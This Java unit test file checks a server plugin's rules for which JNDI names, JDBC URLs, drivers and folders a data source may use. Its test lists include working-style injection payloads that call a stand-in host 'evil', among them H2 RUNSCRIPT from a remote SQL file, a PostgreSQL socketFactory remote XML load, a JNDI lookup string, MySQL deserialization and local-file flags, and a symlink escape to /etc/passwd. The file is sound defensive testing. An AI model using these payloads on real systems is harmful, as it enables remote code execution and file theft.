package org.scrutineer.server.plugin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.scrutineer.extract.contract.DataProblemException;

/** What a data source may open. Each refusal is asked where the form is saved and where the source is opened. */
class ServerRulesTest {

    @TempDir
    private Path disk;

    private ServerRules rules() {
        ServerRules rules = new ServerRules();
        rules.setFolders(disk.resolve("data").toString());
        return rules;
    }

    private void refused(String property, String value) {
        CouncilProperties properties = CouncilProperties.of(Map.of(property, value));
        assertFalse(properties.faults(rules()).isEmpty(), value);
        DataProblemException said =
                assertThrows(DataProblemException.class, () -> CouncilSource.open(properties, rules()));
        assertEquals("S-DATASOURCE", said.problems().get(0).code());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ldap://evil/x",
                "rmi://evil/x",
                "java:comp/env/ldap://evil/x",
                "jdbc/ldap://evil",
                "java:jdbc/council",
                "java:/council",
                "dns:evil",
                "jdbc/../x",
                "jdbc/a b",
                "jdbc/",
                "jdbc//x",
                "java:comp/env/",
                "JDBC/council",
                "iiop:x",
                "jdbc/${jndi:ldap://evil}",
                "jdbc/x?y",
                "comp/env/jdbc/council",
                "jdbc/x\nldap://evil"
            })
    void namesOfOtherServices(String name) {
        refused("jndiName", name);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"jdbc/council", "java:comp/env/jdbc/council", "java:comp/env/council-data_1", "jdbc/adult/care"})
    void namesOfTheApplicationServer(String name) {
        assertTrue(rules().jndi(name));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:/srv/x",
                "jdbc:hsqldb:file:/x",
                "jdbc:derby:x;create=true",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:calcite:model=/x",
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://h/d?sslfactory=x",
                "jdbc:postgresql://h/d?ssl=true&loggerFile=/x",
                "jdbc:postgresql://h/d?SocketFactory=x",
                "jdbc:postgresql://h/d?socket%46actory=x",
                "jdbc:postgresql://h/d?ssl=true&;socketFactory=x",
                "jdbc:postgresql:d",
                "jdbc:postgresql://h,i/d",
                "jdbc:postgresql://h/d?options=-c%20x",
                "jdbc:postgresql://h/d?currentSchema=a b;c",
                "jdbc:mysql://h/d?autoDeserialize=true",
                "jdbc:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:mysql://(host=h,port=1,allowLoadLocalInfile=true)/d",
                "jdbc:mysql://address=(host=h)(allowUrlInLocalInfile=true)/d",
                "jdbc:mariadb://h/d?localSocketAddress=x",
                "jdbc:mariadb:replication://h/d",
                "jdbc:sqlserver://h;socketFactoryClass=x",
                "jdbc:sqlserver://h;trustManagerClass=x",
                "jdbc:sqlserver://h;databaseName={a;trustManagerClass=x}",
                "jdbc:oracle:thin:@ldap://evil/x",
                "jdbc:oracle:oci:@x",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)))",
                "jdbc:oracle:thin:@h:1521/s?TNS_ADMIN=/x",
                "jdbc:jtds:sqlserver://h/d",
                "jdbc:log4jdbc:x",
                "jdbc:postgresql://h/d#x",
                "jdbc:",
                "jdbc:postgresql://h/d\njdbc:h2:mem:x"
            })
    void addressesThatLoadClassesRunScriptsOrReadFiles(String url) {
        refused("jdbcUrl", url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://host/council",
                "jdbc:postgresql://db.council.gov.uk:5432/asc?currentSchema=scrutineer&sslmode=verify-full",
                "jdbc:sqlserver://host\\ASC:1433;databaseName=care;encrypt=true",
                "jdbc:oracle:thin:@//host:1521/care.council",
                "jdbc:oracle:thin:@host:1521:CARE",
                "jdbc:mariadb://host:3306/care",
                "jdbc:mysql://host/care?sslMode=REQUIRED"
            })
    void addressesOfDatabases(String url) {
        assertEquals(Optional.empty(), rules().address(url), url);
    }

    @Test
    void driversAreThoseOfTheAddress() {
        assertTrue(rules().driver("org.postgresql.Driver", "jdbc:postgresql://h/d"));
        for (String other :
                new String[] {"org.h2.Driver", "java.lang.Runtime", "com.mysql.cj.jdbc.Driver", "org.postgresql.Driver2"
                }) {
            assertFalse(rules().driver(other, "jdbc:postgresql://h/d"), other);
            assertEquals(
                    "driver",
                    CouncilProperties.of(Map.of("jdbcUrl", "jdbc:postgresql://h/d", "driver", other))
                            .faults(rules())
                            .get(0)
                            .code());
        }
        ServerRules fewer = rules();
        fewer.setDrivers("oracle.jdbc.OracleDriver");
        assertTrue(fewer.address("jdbc:postgresql://h/d").isPresent());
        assertThrows(IllegalArgumentException.class, () -> fewer.setDrivers("org.h2.Driver"));
    }

    @Test
    void foldersOutsideAndLinksThatLeadOut() throws IOException {
        Path data = Files.createDirectories(disk.resolve("data/council"));
        Path secret = Files.createDirectories(disk.resolve("secret"));
        Files.writeString(secret.resolve("person.csv"), "person_id,date_of_birth\nP1,1950-01-01\n");
        Files.createSymbolicLink(disk.resolve("data/way-out"), secret);
        Path linked = Files.createDirectories(disk.resolve("data/linked"));
        Files.createSymbolicLink(linked.resolve("person.csv"), secret.resolve("person.csv"));
        Path deep = Files.createDirectories(disk.resolve("data/deep/salt"));
        Files.createSymbolicLink(deep.resolve("person.csv"), secret.resolve("person.csv"));
        for (Path outside : new Path[] {
            secret,
            Path.of("/etc/passwd"),
            Path.of("/"),
            disk.resolve("data/../secret"),
            disk.resolve("data/way-out"),
            linked,
            deep.getParent(),
            disk.resolve("data-of-others"),
            Path.of("/no/such")
        }) {
            assertEquals(Optional.of("outside"), rules().location(outside.toString()), outside.toString());
        }
        assertEquals(Optional.empty(), rules().location(data.toString()));
        assertEquals(
                Optional.of("unreadable"),
                rules().location(disk.resolve("data/none").toString()));
        assertEquals(
                Optional.of("properties"),
                rules().location(Files.writeString(data.resolve("db.properties"), "jdbc.url=jdbc:h2:mem:x")
                        .toString()));
        assertEquals(
                Optional.of("nofolder"),
                new ServerRules().location(data.toString()),
                "nothing is allowed until an administrator says what is");
        Path way = Files.createSymbolicLink(disk.resolve("way-in"), disk.resolve("data"));
        ServerRules byLink = new ServerRules();
        byLink.setFolders(way.toString());
        assertEquals(
                Optional.empty(),
                byLink.location(way.resolve("council").toString()),
                "the administrator's own folder may be a link");
    }
}
